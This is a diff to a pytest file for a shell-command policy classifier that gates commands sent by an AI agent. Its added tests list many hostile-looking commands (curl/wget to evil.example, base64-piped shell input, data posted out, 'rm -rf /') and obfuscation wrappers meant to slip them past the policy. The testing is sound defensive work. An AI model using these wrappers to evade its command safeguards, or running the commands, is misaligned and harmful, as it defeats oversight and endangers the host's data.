@@ -4,7 +4,11 @@ files. No runner, no agent process."""
 
 from __future__ import annotations
 
+import shlex
+
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from goaltender.agents.policy import CommandPolicy, classify_command
 
@@ -59,6 +63,66 @@ WS = "/srv/gt/workspaces/goal-1"
         ("bash -c 'goaltender --socket /x stop 2'", "deny", "`goaltender stop` is for people"),
         ("python -m goaltender.cli budget 1 +2h", "deny", "`goaltender budget` is for people"),
         ("goaltender milestone done && goaltender inbox", "allow", ""),
+        # The shell forms the policy must see through: wrappers, flags, substitutions, quoting.
+        ("bash -lc 'curl http://evil.example'", "ask", "uses the network (curl)"),
+        ("sh -ec 'curl http://evil.example'", "ask", "uses the network (curl)"),
+        ("bash -c -- 'curl http://evil.example'", "ask", "uses the network (curl)"),
+        ("bash -o pipefail -c 'pip install x'", "ask", "installs or removes packages (pip install)"),
+        ("bash -lc 'goaltender approve 3'", "deny", "`goaltender approve` is for people"),
+        ("echo 'curl http://evil.example' | bash", "ask", "bash runs commands read from its input"),
+        ("echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | sh", "ask", "sh runs commands read from its input"),
+        ("bash <<'EOF'\ncurl http://evil.example\nEOF", "ask", "bash runs commands read from its input"),
+        ("bash <<< 'curl http://evil.example'", "ask", "bash runs commands read from its input"),
+        ("bash -s < script.sh", "ask", "bash runs commands read from its input"),
+        ("cat <<EOF > notes.md\nfetched: $(curl -s x)\nEOF", "ask", "uses the network (curl)"),
+        ("cat <<'EOF' > notes.md\nnot run: $(curl -s x)\nEOF", "allow", ""),
+        ("echo '$(curl x)' > notes.md", "allow", ""),  # single quotes: text, not a substitution
+        ("bash run.sh", "allow", ""),
+        ("bash /opt/x/run.sh", "ask", "runs a script from outside the workspace (/opt/x/run.sh)"),
+        ("cat <(curl http://evil.example/x)", "ask", "uses the network (curl)"),
+        (
+            "diff <(curl -s http://e/a) <(wget -qO- http://e/b)",
+            "ask",
+            "uses the network (curl); uses the network (wget)",
+        ),
+        ("echo hi > >(curl -d @- http://evil.example)", "ask", "uses the network (curl)"),
+        ("diff <(sort a.txt) <(sort b.txt) > d.txt", "allow", ""),
+        ("echo $(echo $(curl -s x))", "ask", "uses the network (curl)"),
+        ("env -S 'curl http://evil.example'", "ask", "uses the network (curl)"),
+        ("env --split-string='pip install evilpkg'", "ask", "installs or removes packages (pip install)"),
+        ("env -i A=1 -S'wget x'", "ask", "uses the network (wget)"),
+        ("$'curl' http://evil.example", "ask", "runs a command named by a variable or substitution ($curl)"),
+        ("$'\\x63url' http://evil.example", "ask", "runs a command named by a variable or substitution"),
+        ("c=curl; $c http://evil.example", "ask", "runs a command named by a variable or substitution ($c)"),
+        ("$(which python) train.py", "ask", "runs a command named by a variable or substitution"),
+        ("pip3.11 install evilpkg", "ask", "installs or removes packages (pip3.11 install)"),
+        ("python3 -u -m pip install evilpkg", "ask", "installs or removes packages (pip install)"),
+        ("python3 -mpip install evilpkg", "ask", "installs or removes packages (pip install)"),
+        ("python3.11 -X dev -Bm pip uninstall x", "ask", "installs or removes packages (pip uninstall)"),
+        ("python -c 'import pip' -m pip install x", "allow", ""),  # -c: the rest are its arguments
+        ("python -u train.py -m pip", "allow", ""),
+        ("pushd /etc && touch evil", "ask", "touch writes outside the workspace (/etc/evil)"),
+        ("pushd sub && touch x && popd && rm y", "allow", ""),
+        ("pushd sub && popd && popd && rm y", "ask", "deletes outside the workspace (y)"),
+        ("cp --target-directory=/etc x", "ask", "cp writes outside the workspace (/etc)"),
+        ("cp --target=/etc x", "ask", "cp writes outside the workspace (/etc)"),
+        ("cp -t/etc x", "ask", "cp writes outside the workspace (/etc)"),
+        ("cp -rt /etc x", "ask", "cp writes outside the workspace (/etc)"),
+        ("cp -rt out/ a b", "allow", ""),
+        ("rsync -avt /data/a/ b/", "allow", ""),  # rsync's -t keeps times, it names no target
+        ("find . -exec curl http://evil.example \\;", "ask", "uses the network (curl)"),
+        ("find . -name '*.py' -execdir wget x {} +", "ask", "uses the network (wget)"),
+        ("find . -name '*.log' -exec grep -l err {} \\;", "allow", ""),
+        ("coproc curl http://evil.example", "ask", "uses the network (curl)"),
+        ("coproc FETCH { curl http://evil.example; }", "ask", "uses the network (curl)"),
+        ("flock /tmp/l curl http://evil.example", "ask", "uses the network (curl)"),
+        ("flock -w 5 /tmp/l -c 'pip install x'", "ask", "installs or removes packages (pip install)"),
+        ("flock .lock python train.py", "allow", ""),
+        ("rm -rf //", "deny", "recursive delete of /"),
+        ("rm -rf //usr/", "deny", "recursive delete of /usr"),
+        ("rm -r -f $HOME", "deny", "recursive delete of $HOME"),
+        ("git -c x=y pull", "ask", "uses the network (git pull)"),
+        ("xargs -0 curl < urls", "ask", "uses the network (curl)"),
     ],
 )
 def test_classifier(command, action, reason):
@@ -101,3 +165,70 @@ def test_policy_rules_and_files(tmp_path):
         CommandPolicy.from_dict({"alow": []})
     with pytest.raises(ValueError, match="bad command-policy pattern"):
         CommandPolicy.from_dict({"deny": ["("]})
+
+
+# ---- properties: what the policy must see through, however it is wrapped ----
+
+RISKY = [
+    ("curl -s http://evil.example/x", "ask"),
+    ("wget -qO- http://evil.example", "ask"),
+    ("pip install evilpkg", "ask"),
+    ("python3 -m pip install evilpkg", "ask"),
+    ("git clone https://example.com/r", "ask"),
+    ("sudo id", "ask"),
+    ("goaltender approve 3", "deny"),
+    ("rm -rf /", "deny"),
+]
+# Ways to run a command: each takes the command's text and gives a command that runs it.
+WRAPS = [
+    lambda c: f"bash -c {shlex.quote(c)}",
+    lambda c: f"bash -lc {shlex.quote(c)}",
+    lambda c: f"sh -ec -- {shlex.quote(c)}",
+    lambda c: f"timeout 60 {c}",
+    lambda c: f"nohup {c} &",
+    lambda c: f"env A=1 {c}",
+    lambda c: f"env -S {shlex.quote(c)}",
+    lambda c: f"echo $({c})",
+    lambda c: f"cat <({c})",
+    lambda c: f"ls && {c}",
+    lambda c: f"cd sub; {c}",
+    lambda c: f"if true; then {c}; fi",
+    lambda c: f"flock /tmp/lock -c {shlex.quote(c)}",
+    lambda c: f"find . -exec {c} \\;",
+    lambda c: f"coproc {c}",
+    lambda c: f"nice -n 5 {c}",
+    lambda c: f"xargs {c} < list.txt",
+]
+RANK = {"allow": 0, "ask": 1, "deny": 2}
+
+
+@given(
+    risky=st.sampled_from(RISKY),
+    wraps=st.lists(st.sampled_from(range(len(WRAPS))), max_size=3),
+)
+@settings(max_examples=400, deadline=None)
+def test_wrapping_never_hides_a_risky_command(risky, wraps):
+    command, least = risky
+    for index in wraps:
+        command = WRAPS[index](command)
+    verdict = classify_command(command, WS)
+    assert RANK[verdict.action] >= RANK[least], (command, verdict)
+
+
+SHELL_PIECES = [
+    *"abx $()<>|&;'\"`\\{}-=/\n*~!",
+    "curl",
+    "bash -c",
+    "rm -rf",
+    "<<EOF",
+    "EOF",
+    "-exec",
+    "pushd",
+]
+
+
+@given(st.lists(st.sampled_from(SHELL_PIECES), max_size=30))
+@settings(max_examples=500, deadline=None)
+def test_any_text_gets_a_verdict(pieces):
+    # A shell tool call never fails in the policy, whatever the model sends.
+    assert classify_command("".join(pieces), WS).action in RANK
